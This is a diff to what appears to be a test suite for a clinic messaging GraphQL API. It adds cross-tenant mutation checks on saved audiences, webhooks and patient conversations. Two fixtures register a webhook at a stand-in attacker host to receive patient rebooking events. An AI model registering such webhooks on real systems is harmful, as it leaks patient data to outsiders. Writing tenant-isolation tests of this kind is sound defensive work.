@@ -481,6 +481,42 @@ MUTATIONS: dict[str, tuple[str, dict[str, Any]]] = {
         "mutation($p: ClinicProfileInput!) { updateClinicProfile(input: $p) { __typename } }",
         {"p": {**COMPLETE_CLINIC_PROFILE, "name": "Taken over"}},
     ),
+    # issue 22's: a saved audience, a webhook endpoint, a conversation named by `$id` (clinic
+    # A's campaign ids there name none of clinic B's, as an unused id names none)
+    "createSavedAudience": (
+        "mutation($a: SavedAudienceInput!) { createSavedAudience(input: $a) { __typename } }",
+        {"a": {"name": "Taken over", "targeting": {"inactiveDays": 90}}},
+    ),
+    "updateSavedAudience": (
+        "mutation($id: ID!, $a: SavedAudienceInput!) {"
+        " updateSavedAudience(id: $id, input: $a) { __typename } }",
+        {"a": {"name": "Taken over", "targeting": {"inactiveDays": 90}}},
+    ),
+    "createWebhookEndpoint": (
+        "mutation($w: WebhookEndpointInput!) { createWebhookEndpoint(input: $w) { __typename } }",
+        {"w": {"url": "https://attacker.example/hook", "events": ["PATIENT_REBOOKED"]}},
+    ),
+    "updateWebhookEndpoint": (
+        "mutation($id: ID!, $w: WebhookEndpointInput!) {"
+        " updateWebhookEndpoint(id: $id, input: $w) { __typename } }",
+        {"w": {"url": "https://attacker.example/hook", "events": ["PATIENT_REBOOKED"]}},
+    ),
+    **{
+        name: (f"mutation($id: ID!) {{ {name}(id: $id) {{ __typename }} }}", {})
+        for name in ("deleteSavedAudience", "deleteWebhookEndpoint", "sendTestWebhook")
+    },
+    "markConversationRead": (
+        "mutation($id: ID!) { markConversationRead(patientId: $id) { __typename } }",
+        {},
+    ),
+    "assignConversation": (
+        'mutation($id: ID!) { assignConversation(patientId: $id, assignee: "u-x") { __typename } }',
+        {},
+    ),
+    "replyToPatient": (
+        'mutation($id: ID!) { replyToPatient(patientId: $id, text: "Hi") { __typename } }',
+        {},
+    ),
 }
 # Clinic B's reads of clinic A's ids, with their NotFound (or null) made visible.
 NOT_FOUND = "__typename ... on NotFound { message }"
